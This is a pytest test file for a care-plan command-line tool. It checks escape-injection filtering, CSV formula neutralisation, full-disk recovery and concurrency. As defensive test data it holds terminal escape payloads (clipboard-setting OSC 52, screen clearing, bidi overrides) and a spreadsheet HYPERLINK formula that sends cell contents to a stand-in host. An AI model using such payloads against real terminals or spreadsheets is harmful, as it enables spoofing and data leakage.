"""S1 and S7 (the person's words as text everywhere), D8, D9, C1-C3, C5."""

from __future__ import annotations

import errno
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from careplan.core.generate import slug
from tests.cli.test_review import month  # noqa: F401  # the fixture, shared
from tests.conftest import EXAMPLE_ANSWERS
from tests.hostile.helpers import logs, records

# -- S1: escape injection, a property over every field and every command that shows it ------

BAD = [
    "\x1b]52;c;aGVsbG8=\x07",  # OSC 52: set the clipboard
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b]0;title\x07",  # window title
    "\u202e",  # right-to-left override
    "\u2066",
    "\x9b31m",  # C1 CSI
    "\x07",
    "\x00",
    "\x7f",
    "\x1bP+q\x1b\\",  # DCS
]
FORBIDDEN = set("\x1b\x07\x9b\x9d\x90\x00\u202e\u202d\u2066\u2067\u2068\u2069\u200f\u061c")
pieces = st.one_of(
    st.sampled_from(BAD),
    st.text(alphabet=st.characters(max_codepoint=0x20AF), min_size=1, max_size=6),
)
words = st.lists(pieces, min_size=1, max_size=4).map("".join).filter(lambda w: w.strip())


def toml_text(value: str) -> str:
    return json.dumps(value)  # a JSON string is a valid TOML basic string


def forbidden(text: str) -> set[str]:
    return {c for c in text if c in FORBIDDEN or 0x80 <= ord(c) <= 0x9F or ord(c) < 0x09}


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(word=words)
def test_no_escape_reaches_the_output_from_any_field(
    cli, clock, tmp_path: Path, isolated_home: Path, word: str
) -> None:
    import shutil

    shutil.rmtree(isolated_home, ignore_errors=True)
    value = toml_text(word)
    answers = tmp_path / "shared.toml"
    answers.write_text(
        EXAMPLE_ANSWERS.replace('"Jordan"', value).replace('"Priya"', value)
        .replace('"night shifts"', value).replace('"guitar"', value)
        + f"[safety_plan]\ncoping = [{value}]\npeople = [{value}]\n",
        encoding="utf-8",
    )  # fmt: skip
    markdown = tmp_path / "review.md"
    markdown.unlink(missing_ok=True)
    shown = []
    for args in (
        ["init", "--answers", str(answers)],
        ["plan", "add", "conn-call-person", "--fill", word.replace("\x00", "")],
        ["checkin", "--feel", "4", "--words", word, "--note", word],
        ["skip", "2", "--reason", word],
        ["done", "1"],
        ["review", "--reflect", word],
        ["today"], ["today", "-v"], ["today", "--json"], ["plan"], ["review"],
        ["review", "--json"], ["review", "--markdown", str(markdown)], ["review", "--year"],
        ["safety-plan"], ["sos", "--exercise", "breathing"], ["doctor"],
        ["export"], ["export", "--format", "csv"], ["export", "--format", "ics"],
    ):  # fmt: skip
        result = cli(*args)
        shown.append((args, result.stdout + result.stderr))
    if markdown.exists():
        shown.append((["markdown file"], markdown.read_text(encoding="utf-8")))
    for args, text in shown:
        assert forbidden(text) == set(), (args, word)


@given(text=words)
def test_with_colour_on_only_colour_codes_pass(text: str) -> None:
    from careplan.cli.streams import SafeText

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    os.environ.pop("NO_COLOR", None)
    os.environ["TERM"] = "xterm-256color"
    try:
        screen = Terminal()
        SafeText(screen).write(f"\x1b[1m{text}\x1b[0m")  # type: ignore[arg-type]
    finally:
        os.environ["NO_COLOR"] = "1"
    out = screen.getvalue()
    assert out.startswith("\x1b[1m") and out.endswith("\x1b[0m")
    assert forbidden(out[4:-4]) == set()


# -- S7: CSV formulas -------------------------------------------------------------------


def test_a_note_that_looks_like_a_formula_stays_text_in_csv(cli) -> None:
    assert cli("init", "--example").exit_code == 0
    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
    assert cli("checkin", "--feel", "3", "--note", formula).exit_code == 0
    assert cli("checkin", "--feel", "3", "--words", "@SUM(1)").exit_code == 0
    import csv

    rows = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv").stdout)))
    assert rows[0]["note"] == "'" + formula
    assert rows[1]["words"] == json.dumps(["@sum(1)"])  # inside a JSON list: not a formula
    assert all(not c.startswith(("=", "+", "@", "-")) for row in rows for c in row.values())


# -- D8: a full disk while editing ----------------------------------------------------------


def full_disk_for(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    real = os.replace

    def replace(src: object, dst: object, *args: object, **kwargs: object) -> None:
        if str(dst).endswith(name):
            raise OSError(errno.ENOSPC, "No space left on device")
        real(src, dst, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "replace", replace)


def test_a_full_disk_in_plan_edit_names_the_kept_draft(
    cli, isolated_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert cli("init", "--example").exit_code == 0
    editor = tmp_path / "editor.py"
    editor.write_text(
        "import sys\np = sys.argv[1]\ntext = open(p).read()\n"
        "open(p, 'w').write(text.replace('minutes = ', 'minutes = 1', 1))\n"
    )
    monkeypatch.setenv("EDITOR", f"{sys.executable} {editor}")
    full_disk_for("plan.toml", monkeypatch)
    result = cli("plan", "edit")
    assert result.exit_code == 1
    draft = next(isolated_home.glob("plan-edit-*.toml"))
    assert f"Your edited copy is kept, saved as:\n  {draft}" in result.stderr
    assert "minutes = 1" in draft.read_text()


def test_a_full_disk_in_safety_plan_edit_keeps_what_was_typed(
    cli, isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert cli("init", "--example").exit_code == 0
    full_disk_for("answers.toml", monkeypatch)
    typed = "\n".join(["feeling far away", "cold water", "the library", "Priya", "my GP", "keys"])
    result = cli("safety-plan", "edit", input=typed + "\n")
    assert result.exit_code == 1
    draft = next(isolated_home.glob("safety-plan-draft-*.toml"))
    assert f"What you typed is kept in {draft}." in result.stderr
    kept = draft.read_text()
    assert all(word in kept for word in ("feeling far away", "cold water", "the library", "keys"))


# -- D9: lines doctor must not call deletable ------------------------------------------------


def test_a_bom_line_counts_and_a_newer_record_is_never_called_deletable(
    cli, isolated_home: Path
) -> None:
    assert cli("init", "--example").exit_code == 0
    assert cli("done", "1").exit_code == 0
    history = logs(isolated_home)[0]
    history.write_bytes(
        b"\xef\xbb\xbf"
        + history.read_bytes()
        + b'{"day":"2026-11-25","at":"2026-11-25T10:00:00","kind":"gratitude","text":"sun"}\n'
    )
    today = json.loads(cli("today", "--json").stdout)
    assert today["steps"][0]["status"] == "done"  # the BOM line is a record
    report = cli("doctor")
    flat = " ".join(report.stdout.split())
    assert "line 2 looks like a record from a newer careplan. It is kept as it is." in flat
    assert "could not be read" not in flat and "delete it" not in flat


# -- C1: review --apply works its change out under the lock ----------------------------------


def test_apply_works_out_its_changes_from_the_plan_as_it_is_when_saving(
    cli,
    clock,
    month: dict[str, str],  # noqa: F811
    isolated_home: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import tomlkit

    week = json.loads(cli("review", "--json").stdout)
    shrink = next(s for s in week["suggestions"] if s["kind"] == "shrink")["step"]
    plan_path = isolated_home / "plan.toml"

    def meanwhile(question: str) -> bool:
        # Another careplan removes the step while this one asks.
        doc = tomlkit.parse(plan_path.read_text())
        steps = doc["steps"]
        keep = [s for s in steps if s["id"] != shrink]  # type: ignore[union-attr]
        steps.clear()  # type: ignore[union-attr]
        steps.extend(keep)  # type: ignore[union-attr]
        plan_path.write_text(tomlkit.dumps(doc))
        return True

    monkeypatch.setattr("careplan.cli.look.confirm", meanwhile)
    result = cli("review", "--apply")
    assert result.exit_code == 0, result.stderr
    assert "Error" not in result.stderr
    assert shrink not in plan_path.read_text()


# -- C2, C3: init at once, and killed half way --------------------------------------------


def test_a_second_init_at_the_same_moment_refuses_instead_of_replacing(
    cli, isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from careplan.store.store import Store

    assert cli("init", "--example").exit_code == 0
    theirs = (isolated_home / "plan.toml").read_bytes()
    shutil.rmtree(isolated_home)
    calls = {"n": 0}
    real = Store.has_plan

    def racing(self: Store) -> bool:
        calls["n"] += 1
        if calls["n"] == 1:  # checked before the lock; the other init saves just after
            isolated_home.mkdir(mode=0o700)
            (isolated_home / "plan.toml").write_bytes(theirs)
            return False
        return real(self)

    monkeypatch.setattr(Store, "has_plan", racing)
    result = cli("init", "--example")
    assert calls["n"] > 1, result.stderr
    assert result.exit_code == 1
    assert "another careplan made it just now. Nothing was changed." in result.stderr
    assert (isolated_home / "plan.toml").read_bytes() == theirs
    assert not (isolated_home / "backups").exists()


KILLED = """\
import os, sys
real = os.replace
def replace(src, dst, *a, **k):
    if str(dst).endswith("plan.toml"):
        os._exit(9)  # killed between the two renames
    return real(src, dst, *a, **k)
os.replace = replace
from careplan.cli import run
run()
"""


def test_a_kill_between_the_renames_never_leaves_a_new_plan_with_old_answers(
    isolated_home: Path, tmp_path: Path
) -> None:
    def careplan_run(*args: str, script: str | None = None) -> int:
        command = [sys.executable, "-c", script] if script else [sys.executable, "-m", "careplan"]
        return subprocess.run([*command, *args], capture_output=True, check=False).returncode

    assert careplan_run("init", "--example") == 0
    old_plan = (isolated_home / "plan.toml").read_bytes()
    new = tmp_path / "new.toml"
    new.write_text(EXAMPLE_ANSWERS.replace("Jordan", "Robin"))
    assert careplan_run("init", "--force", "--answers", str(new), script=KILLED) == 9
    plan_is_new = (isolated_home / "plan.toml").read_bytes() != old_plan
    answers_are_new = "Robin" in (isolated_home / "answers.toml").read_text()
    assert not (plan_is_new and not answers_are_new)
    # and the next init --force makes the plan the new answers ask for
    assert careplan_run("init", "--force") == 0
    assert "Robin" in (isolated_home / "answers.toml").read_text()
    assert records(isolated_home) == 0


# -- C5: names in any script stay distinct ---------------------------------------------------


def test_non_ascii_names_stay_distinct_as_step_ids(cli, isolated_home: Path) -> None:
    names = ["Zoë", "Zoé", "王芳", "李娜", "Соня", "Аня", "Priya Shah"]
    assert len({slug(n) for n in names}) == len(names)
    assert slug("Priya Shah") == "priya-shah"  # ASCII names keep the ids they had
    assert cli("init", "--example").exit_code == 0
    for name in ("Zoë", "Zoé", "王芳"):
        assert cli("plan", "add", "conn-call-person", "--fill", name).exit_code == 0
    assert cli("done", "conn-call-person-王芳").exit_code in (0, 1)  # known by its id
    assert "conn-call-person-zoë" in (isolated_home / "plan.toml").read_text()
